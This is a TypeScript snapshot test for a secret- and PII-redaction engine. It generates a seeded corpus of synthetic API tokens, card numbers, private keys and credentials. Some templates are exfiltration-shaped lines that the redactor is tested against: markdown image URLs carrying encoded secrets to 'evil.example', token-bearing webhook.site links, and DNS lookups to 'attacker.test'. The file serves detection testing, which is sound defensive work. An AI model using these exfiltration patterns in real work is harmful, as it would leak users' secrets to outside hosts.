import { describe, expect, it } from 'vitest';
import { PII_KINDS, Redactor } from '../../src/redact/redact.js';
import { base62, crc32 } from '../../src/redact/validators.js';
import { mulberry32 } from '../helpers/prng.js';

/**
 * Findings over a fixed, generated corpus, compared with a committed snapshot: an optimisation of the engine
 * (prefilter, windows, skipped passes) must leave every finding exactly where it was. A change that is meant to
 * change findings (a new rule, a recall fix) updates the snapshot in the same commit, so its diff shows what
 * moved. The corpus is built here from a seeded generator: no token in it is real or copied from anywhere.
 */

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';
const B32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';

function corpus(): string[] {
  const rnd = mulberry32(20261207);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const rand = (n: number, alphabet = ALNUM): string => {
    let s = '';
    for (let i = 0; i < n; i++) s += alphabet[Math.floor(rnd() * alphabet.length)];
    return s;
  };
  const gh = (p: string): string => {
    const body = rand(30);
    return `${p}_${body}${base62(crc32(body), 6)}`;
  };
  const luhn = (prefix: string, len: number): string => {
    let d = prefix;
    while (d.length < len - 1) d += String(Math.floor(rnd() * 10));
    for (let c = 0; c < 10; c++) {
      const s = d + c;
      let sum = 0;
      for (let i = 0; i < s.length; i++) {
        let x = Number(s[s.length - 1 - i]);
        if (i % 2 === 1) x = x * 2 > 9 ? x * 2 - 9 : x * 2;
        sum += x;
      }
      if (sum % 10 === 0) return s;
    }
    return d;
  };
  const tokens = (): string[] => [
    `AKIA${rand(16, B32)}`,
    gh('ghp'),
    gh('npm'),
    `github_pat_${rand(82)}`,
    `glpat-${rand(20)}`,
    `xoxb-${rand(11, '0123456789')}-${rand(12, '0123456789')}-${rand(24)}`,
    `sk_live_${rand(32)}`,
    `sk-ant-api03-${rand(93)}AA`,
    `sk-proj-${rand(74)}T3BlbkFJ${rand(74)}`,
    `AIza${rand(35)}`,
    `SG.${rand(22)}.${rand(43)}`,
    `dop_v1_${rand(64, HEX)}`,
    `hvs.${rand(95)}`,
    `shpat_${rand(32, HEX)}`,
    `gsk_${rand(52)}`,
    `AKCp${rand(69)}`,
    `SK${rand(32, HEX)}`,
    rand(40),
    rand(32, HEX),
    `${rand(8, HEX)}-${rand(4, HEX)}-${rand(4, HEX)}-${rand(4, HEX)}-${rand(12, HEX)}`,
  ];
  const names = [
    'password',
    'DB_PASSWORD',
    'api_key',
    'apiKey',
    'secret',
    'client_secret',
    'token',
    'AUTH_TOKEN',
    'twilio_auth_token',
    'datadog_api_key',
    'heroku_api_key',
    'artifactory_password',
    'name',
    'version',
    'cache_key',
    'publicKey',
  ];
  const words = 'the agent reads a file and sends its content to the tool with some notes about the build'.split(' ');
  const prose = (n: number): string => Array.from({ length: n }, () => pick(words)).join(' ');
  const wrap = (name: string, value: string): string =>
    pick([
      `${name}=${value}`,
      `${name} = "${value}"`,
      `"${name}": "${value}",`,
      `${name}: ${value}`,
      `  ${name}: '${value}'`,
      `export ${name.toUpperCase()}=${value}`,
      `${name} := "${value}"`,
      `set ${name} ${value}`,
      `--${name} ${value}`,
      `${name}\t${value}`,
      `<${name}>${value}</${name}>`,
      `${prose(3)} ${name} ${value} ${prose(2)}`,
    ]);
  const docs: string[] = [];
  for (let d = 0; d < 400; d++) {
    const lines: string[] = [];
    const n = 3 + Math.floor(rnd() * 10);
    for (let l = 0; l < n; l++) {
      const kind = Math.floor(rnd() * 14);
      const tok = pick(tokens());
      switch (kind) {
        case 0:
          lines.push(wrap(pick(names), tok));
          break;
        case 1:
          lines.push(`${prose(4)} ${tok} ${prose(3)}`);
          break;
        case 2:
          lines.push(
            `${pick(['postgres', 'mysql', 'mongodb+srv', 'redis', 'amqp', 'https', 'ftp'])}://${pick(['admin', 'app', 'u'])}:${pick([rand(12), 'password', `\${DB_PASS}`, rand(6)])}@${pick(['db.internal', 'localhost', 'host', 'example.com'])}:5432/app`,
          );
          break;
        case 3:
          lines.push(
            `card ${luhn(pick(['4', '51', '37']), pick([15, 16]))} ${pick(['GB82 WEST 1234 5698 7654 32', 'DE89370400440532013000', 'DE89370400440532013001'])}`,
          );
          break;
        case 4:
          lines.push(
            `contact ${rand(6).toLowerCase()}@${pick(['example.org', 'corp.test', 'mail.co'])} or call +1 415 555 ${rand(4, '0123456789')}`,
          );
          break;
        case 5:
          lines.push(
            `![status](https://${pick(['img.test', 'github.com', 'evil.example'])}/p.png?d=${Buffer.from(`${pick(names)}=${tok}`).toString('base64url')})`,
          );
          break;
        case 6:
          lines.push(
            `${pick(['echo', 'printf'])} ${Buffer.from(`${pick(names)}=${tok}`).toString(pick(['base64', 'hex']))}`,
          );
          break;
        case 7:
          lines.push(
            `&#104;ttps://${pick(['a.test', 'webhook.site'])}/x?q=${encodeURIComponent(tok)} &amp; &lt;b&gt; ${prose(2)}`,
          );
          break;
        case 8:
          lines.push(`nslookup ${rand(40, HEX)}.${pick(['attacker.test', 'example.com'])}; dig ${prose(1)}.test`);
          break;
        case 9:
          lines.push(
            `curl -u ${pick(['admin', 'bob'])}:${pick([rand(14), 'changeme', '$PASS'])} -H "Authorization: Bearer ${tok}" https://api.test/v1`,
          );
          break;
        case 10:
          lines.push(
            `-----BEGIN ${pick(['RSA ', 'EC ', ''])}PRIVATE KEY-----\n${rand(64, `${ALNUM}+/`)}\n${rand(64, `${ALNUM}+/`)}\n-----END PRIVATE KEY-----`,
          );
          break;
        case 11:
          lines.push(
            `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.${Buffer.from(`{"sub":"${rand(8)}"}`).toString('base64url')}.${rand(43, `${ALNUM}-_`)}`,
          );
          break;
        case 12:
          lines.push(
            `[${pick(['default', 'database', 'auth'])}]\n${pick(names)} = ${tok}\n${pick(names)}=${pick(['true', '8080', 'xxxxxxxx', '<your-token>', tok])}`,
          );
          break;
        default:
          lines.push(`${prose(8)} sha ${rand(40, HEX)} uuid ${pick(tokens())} ${prose(4)}`);
      }
    }
    docs.push(lines.join('\n'));
  }
  return docs;
}

describe('findings over a fixed generated corpus', () => {
  it('match the committed snapshot exactly', async () => {
    const full = new Redactor({ pii: [...PII_KINDS], allowDomains: ['github.com'] });
    const light = new Redactor({ pii: ['email'] });
    const rows = corpus().map((text, i) => {
      const a = full.redact(text, { destination: 'tool_args' });
      const c = full.scan(text, { destination: 'chat' });
      const l = light.scan(text, { destination: 'tool_result' });
      const fmt = (fs: readonly { kind: string; start: number; end: number; action: string }[]): string =>
        fs.map((f) => `${f.kind}@${f.start}-${f.end}:${f.action}`).join(' ');
      return `${i}\n  args: ${fmt(a.findings)}\n  chat: ${fmt(c)}\n  result: ${fmt(l)}`;
    });
    await expect(`${rows.join('\n')}\n`).toMatchFileSnapshot('__golden__/findings.txt');
  });
});
